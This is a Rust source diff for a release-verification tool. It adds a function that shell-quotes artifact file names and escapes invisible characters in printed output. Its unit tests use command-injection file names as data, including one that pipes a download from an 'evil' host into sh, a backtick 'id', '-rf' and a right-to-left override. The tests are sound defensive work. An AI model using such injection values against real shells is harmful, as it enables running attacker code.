@@ -11,6 +11,7 @@ use lockgate_ledger::bodies::required;
 use lockgate_ledger::bundle::{self as bundles, Bundle, Verified};
 use lockgate_ledger::sigstore::{self, Inclusion};
 use lockgate_ledger::{Leaf, TrustFile};
+use lockgate_model::text::visible;
 use lockgate_model::{Digest, Limits, PromotionId};
 use lockgate_sign::dsse::Envelope;
 use lockgate_tlog::proof_file::ProofFile;
@@ -82,10 +83,10 @@ fn show(world: &World, file: &Path, trust: Option<&Path>) -> Outcome {
             verified.promotion, verified.release.name, verified.decision.environment, verified.decision.outcome
         );
         for check in &verified.checks {
-            text.push_str(&format!("  + {:<13} {}\n", check.name, crate::terminal::printable(&check.found)));
+            text.push_str(&format!("  + {:<13} {}\n", check.name, visible(&check.found)));
         }
         for suspect in &verified.suspects {
-            let why = crate::terminal::printable(&suspect.why);
+            let why = visible(&suspect.why);
             text.push_str(&format!(
                 "  ? suspect       entry {}, since entry {}: {why}\n",
                 suspect.index, suspect.since
@@ -96,9 +97,9 @@ fn show(world: &World, file: &Path, trust: Option<&Path>) -> Outcome {
                 "  {:<8} {} ({}:{}): {}\n",
                 gate.outcome.as_str(),
                 gate.gate,
-                gate.rule.file,
+                visible(&gate.rule.file),
                 gate.rule.line,
-                crate::terminal::printable(&gate.found)
+                visible(&gate.found)
             ));
         }
         text
@@ -218,7 +219,7 @@ fn verify_text(verified: &Verified) -> String {
         )).collect()
     }).unwrap_or_default();
     let artifact =
-        verified.release.manifest.artifacts.first().map(|artifact| artifact.name.clone()).unwrap_or_default();
+        verified.release.manifest.artifacts.first().map(|artifact| argument(&artifact.name)).unwrap_or_default();
     format!(
         "# How to check this without Lockgate\n\n\
          Compare `trust.json`, `lockgate.pub`, `trusted_root.json` and `allowed_signers` with the ones you pinned before.\n\n\
@@ -229,4 +230,36 @@ fn verify_text(verified: &Verified) -> String {
          Entries and their proofs are in `entries/`, as C2SP tlog-proof files under `tlog-policy`.\n",
         if approvers.is_empty() { "(none)".to_owned() } else { approvers.join("\n    ") }
     )
+}
+
+/// The name of a file as one argument of a shell's command, and never as an option; what nobody would see in it is
+/// escaped.
+fn argument(name: &str) -> String {
+    let name = visible(name);
+    let name = if name.starts_with('-') { format!("./{name}") } else { name };
+    let is_plain = |c: char| c.is_ascii_alphanumeric() || "@%+=:,./_-".contains(c);
+    match !name.is_empty() && name.chars().all(is_plain) {
+        true => name,
+        false => format!("'{}'", name.replace('\'', r"'\''")),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_file_name_is_one_argument_of_a_shell_and_no_option() {
+        let check = |name: &str, expected: &str| assert_eq!(argument(name), expected);
+        check("app-1.4.2.tar.gz", "app-1.4.2.tar.gz");
+        check("my app.tgz", "'my app.tgz'");
+        check("it's.tgz", r"'it'\''s.tgz'");
+        check("app$(curl evil|sh).tgz", "'app$(curl evil|sh).tgz'");
+        check("`id`", "'`id`'");
+        check("-rf", "./-rf");
+        check("--key=$HOME", "'./--key=$HOME'");
+        check("~root", "'~root'");
+        check("a\u{202e}b", r"'a\u{202e}b'");
+        check("", "''");
+    }
 }
